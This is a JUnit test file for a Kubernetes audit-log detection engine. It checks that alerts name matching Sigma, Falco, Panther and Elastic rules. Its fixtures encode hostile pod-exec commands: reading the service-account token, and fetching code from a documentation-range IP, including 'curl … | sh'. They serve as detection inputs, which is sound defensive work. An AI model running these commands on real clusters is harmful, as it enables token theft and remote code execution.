package io.auditwatch.language;

import static io.auditwatch.testing.EventJson.event;
import static io.auditwatch.testing.EventJson.podExec;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.auditwatch.alert.Alert;
import io.auditwatch.engine.Detection;
import io.auditwatch.engine.Engine;
import io.auditwatch.state.ExpiringState;
import io.auditwatch.state.TreeMapStore;
import io.auditwatch.testing.EventJson;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** An alert names only the peers' rules that hold for what it saw. */
class EquivalentsTest {
    static final RuleSet PACK = RuleSet.defaults();

    private static List<String> equivalents(String ruleId, EventJson event) {
        Detection rule = PACK.all().stream().filter(d -> d.rule().id().equals(ruleId)).findFirst().orElseThrow();
        List<Alert> alerts = new Engine(List.of(rule), Duration.ofHours(1))
                .process(event.parse(), new ExpiringState(new TreeMapStore()));
        assertEquals(1, alerts.size(), ruleId + " did not fire once");
        return alerts.get(0).rule().equivalents();
    }

    private static EventJson binding(String resource, String verb) {
        String namespace = resource.equals("rolebindings") ? "\"namespace\":\"shop\"," : "";
        return event().verb(verb).setJson("objectRef", "{\"resource\":\"" + resource + "\"," + namespace
                + "\"name\":\"b\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"apiVersion\":\"v1\"}")
                .code(verb.equals("create") ? 201 : 200);
    }

    @Test
    void shouldNameOnlyThePeersCreatedRulesForACreatedClusterRoleBinding() {
        assertEquals(List.of("sigma:10b97915-ec8d-455f-a815-9a78926585f6", "falco:K8s ClusterRoleBinding Created"),
                equivalents("rolebinding-changed", binding("clusterrolebindings", "create")));
    }

    @Test
    void shouldNameOnlyThePeersDeletedRulesForADeletedRoleBinding() {
        assertEquals(List.of("sigma:10b97915-ec8d-455f-a815-9a78926585f6", "falco:K8s RoleBinding Deleted"),
                equivalents("rolebinding-changed", binding("rolebindings", "delete")));
    }

    @Test
    void shouldNameNoFalcoRuleForAPatchedBindingWhichFalcoDoesNotWatch() {
        assertEquals(List.of("sigma:10b97915-ec8d-455f-a815-9a78926585f6"),
                equivalents("rolebinding-changed", binding("rolebindings", "patch")));
    }

    @Test
    void shouldNameFalcosSecretCreatedOrDeletedByVerb() {
        EventJson created = event().verb("create").objectRef("secrets", "shop", "db", null).code(201);
        EventJson updated = event().verb("update").objectRef("secrets", "shop", "db", null).code(200);
        assertEquals(List.of("sigma:58d31a75-a4f8-4c40-985b-373d58162ca2", "falco:K8s Secret Created"),
                equivalents("secret-changed", created));
        assertEquals(List.of("sigma:58d31a75-a4f8-4c40-985b-373d58162ca2"), equivalents("secret-changed", updated));
    }

    @Test
    void shouldNameFalcoAndSigmaForAnExecCreatedTheOldWayOnly() {
        assertTrue(equivalents("pod-exec", podExec().verb("create")).contains("falco:Attach/Exec Pod"));
        assertTrue(!equivalents("pod-exec", podExec()).contains("falco:Attach/Exec Pod"));
        assertEquals(List.of("falco:Attach/Exec Pod", "panther:Kubernetes.Pod.Exec"),
                equivalents("pod-exec", podExec().verb("create").objectRef("pods", "shop", "web-1", "attach")));
    }

    @Test
    void shouldNameElasticsRuleForATokenReadUnderVarRunOnly() {
        EventJson varRun = podExec().verb("create").code(101)
                .uri("/api/v1/namespaces/shop/pods/web-1/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken");
        EventJson run = podExec().verb("create").code(101)
                .uri("/api/v1/namespaces/shop/pods/web-1/exec?command=cat&command=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken");
        assertEquals(List.of("panther:Kubernetes.Pod.StealServiceAccountToken",
                "elastic:Kubernetes Pod Exec Sensitive File or Credential Path Access"),
                equivalents("serviceaccount-token-theft", varRun));
        assertEquals(List.of("panther:Kubernetes.Pod.StealServiceAccountToken"),
                equivalents("serviceaccount-token-theft", run));
    }

    @Test
    void shouldNameElasticsDownloadRuleForAnHttpsFetchButNotForAnHttpFetchPipedToAShell() {
        EventJson https = podExec().verb("create").code(101)
                .uri("/api/v1/namespaces/shop/pods/web-1/exec?command=wget&command=https%3A%2F%2F203.0.113.7%2Ftool");
        EventJson piped = podExec().verb("create").code(101)
                .uri("/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=curl+http%3A%2F%2F203.0.113.7%2Fx+%7C+sh");
        assertEquals(List.of("elastic:Kubernetes Pod Exec with Curl or Wget to HTTPS"), equivalents("exec-remote-download", https));
        assertEquals(List.of(), equivalents("exec-remote-download", piped));
    }

    @Test
    void shouldKeepEveryEquivalentForListingWithTheConditionAsWritten() throws RuleException {
        Detection rule = RuleSet.compile(List.of(new RuleSources.Source("t.yml", """
                title: t
                id: t
                level: low
                detection:
                  sel: {verb: [create, delete]}
                  condition: sel
                equivalents:
                  - "sigma:x"
                  - name: "falco:K8s Role Created"
                    when: {verb: create, objectRef.resource: [roles, clusterroles]}
                """))).all().get(0);
        assertEquals(List.of("sigma:x", "falco:K8s Role Created"), rule.rule().equivalents());
        assertEquals("verb: create, objectRef.resource: [roles, clusterroles]",
                rule.rule().when().get("falco:K8s Role Created").text());
    }

    @Test
    void shouldRejectAConditionalEquivalentWithABadSelectionNamingFileAndLine() {
        RuleException e = assertThrows(RuleException.class, () -> RuleSet.compile(List.of(new RuleSources.Source("t.yml", """
                title: t
                id: t
                level: low
                detection:
                  sel: {verb: create}
                  condition: sel
                equivalents:
                  - name: "falco:K8s Role Created"
                    when: {verbb: create}
                """))));
        assertTrue(e.getMessage().contains("t.yml:9") && e.getMessage().contains("verbb"), e.getMessage());
    }

    @Test
    void shouldRejectAnEquivalentListedTwice() {
        RuleException e = assertThrows(RuleException.class, () -> RuleSet.compile(List.of(new RuleSources.Source("t.yml", """
                title: t
                id: t
                level: low
                detection:
                  sel: {verb: create}
                  condition: sel
                equivalents: ["sigma:x", "sigma:x"]
                """))));
        assertTrue(e.getMessage().contains("listed twice"), e.getMessage());
    }
}
